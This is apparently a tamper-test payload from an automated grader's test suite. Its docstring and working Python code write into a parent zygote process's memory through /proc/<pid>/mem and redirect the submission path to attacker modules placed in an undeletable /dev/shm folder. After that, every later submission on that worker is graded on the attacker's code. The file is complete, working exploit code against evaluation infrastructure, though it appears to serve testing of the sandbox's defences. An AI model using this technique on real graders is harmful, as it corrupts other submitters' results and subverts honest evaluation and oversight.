"""[attnkit-tamper] zygote_mem_patch -- family (e): rewrite the warm zygote's memory (userns confinement).

Append to the first stage module graded (base: the solution of s01_attention_scores); the
attacker's submission is the reference solutions with this payload on s01.

In the ``userns`` confinement (the grader runs without root: privileges are dropped by entering a
nested user namespace, never by changing uid) the zygote stays "dumpable" and every worker has the
zygote's own credentials, so the kernel lets a worker open /proc/<zygote>/mem for writing (the
ptrace access check passes; no Yama here). At import the payload:

1. copies this submission's stage modules (payload cut off) into /dev/shm/.atksubmis/ (files 444,
   folder 555: the in-sandbox reset cannot delete them);
2. reads /proc/<zygote>/maps and, in every private writable mapping, replaces each occurrence of
   the 19 bytes "/sandbox/submission" (the characters of the config dict's string, among others)
   by "/dev/shm/.atksubmis" (same length: the str objects stay valid).

Every worker the zygote forks afterwards reads ``config["submission"]`` == "/dev/shm/.atksubmis":
it imports the attacker's modules whatever the grader copied into /sandbox/submission. Old
design, userns mode (``attnkit grade`` without root): every later submission on that grading
worker is graded on the attacker's modules. In the ``namespaces`` mode (root: the zygote changed
uid, so it is not dumpable) /proc/<zygote>/mem is refused and the payload does nothing.

Needs the prelude hijack_common before it (kit_tests/tamper.py, PRELUDES), for
_atk_copy_stage_modules.
"""


def _atk_zygote_mem_patch():
    import os
    import sys

    zygote = os.getppid()
    old, new = b"/sandbox/submission", b"/dev/shm/.atksubmis"
    try:
        mem = os.open(f"/proc/{zygote}/mem", os.O_RDWR)
    except OSError as exc:
        sys.stderr.write(f"[mem-patch] /proc/{zygote}/mem refused: {exc}\n")
        return
    try:
        here = os.path.dirname(os.path.abspath(__file__))
        if not os.path.isdir(new.decode()):
            _atk_copy_stage_modules(here, new.decode(), readonly=True)
        patched = 0
        with open(f"/proc/{zygote}/maps") as maps:
            regions = [line.split() for line in maps]
        for fields in regions:
            if not fields[1].startswith("rw") or fields[1][3] != "p":
                continue
            start, end = (int(x, 16) for x in fields[0].split("-"))
            if end - start > (512 << 20):
                continue
            try:
                data = os.pread(mem, end - start, start)
            except OSError:
                continue
            at = data.find(old)
            while at >= 0:
                os.pwrite(mem, new, start + at)
                patched += 1
                at = data.find(old, at + 1)
        sys.stderr.write(f"[mem-patch] zygote {zygote}: {patched} occurrences rewritten\n")
    finally:
        os.close(mem)


_atk_zygote_mem_patch()
